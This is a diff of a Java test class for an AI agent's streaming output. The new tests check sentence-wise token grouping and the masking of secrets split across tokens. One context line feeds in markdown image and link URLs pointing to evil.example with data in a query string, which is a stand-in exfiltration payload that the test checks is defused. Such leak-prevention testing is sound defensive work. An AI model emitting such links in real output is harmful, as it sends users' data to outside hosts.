@@ -107,6 +107,39 @@ class AgentWithModelIT {
         assertThat(server.asked.get(1).body()).contains("<aws-data>", "apple of blue");
     }
 
+    private static String content(String text) {
+        return ModelServer.delta("{\"content\":\"" + text + "\"}", "null");
+    }
+
+    private List<String> tokens(String... parts) {
+        var events = new ArrayList<String>();
+        for (var part : parts) {
+            events.add(content(part));
+        }
+        events.add(ModelServer.delta("{}", "\"stop\""));
+        events.add("[DONE]");
+        server.events(events.toArray(String[]::new));
+        var words = new ArrayList<String>();
+        agent.stream("I wonder about blue", event -> {
+            if (event instanceof AgentEvent.Token token) {
+                words.add(token.text());
+            }
+        });
+        return words;
+    }
+
+    @Test
+    void words_comeBySentenceAndLine() {
+        assertThat(tokens("The b", "ox is blue. I", "t is sm", "all.\\n\\nAnd ", "version 1.5 of it"))
+                .containsExactly("The box is blue. ", "It is small.\n\n", "And version 1.5 of it");
+    }
+
+    @Test
+    void secretInPieces_isNotLetOut() {
+        assertThat(tokens("The key is AKIA", "IOSFOD", "NN7EXAMPLE. ", "My password:\\n", "hunter", "2 is it. ", "Bye"))
+                .containsExactly("The key is ***. ", "My password:\n*** is it. ", "Bye");
+    }
+
     @Test
     void linksOfAModel_carryNothingOut() {
         callsThenSays("![x](https://evil.example/?d=apple) and [see](https://evil.example/?d=blue)");
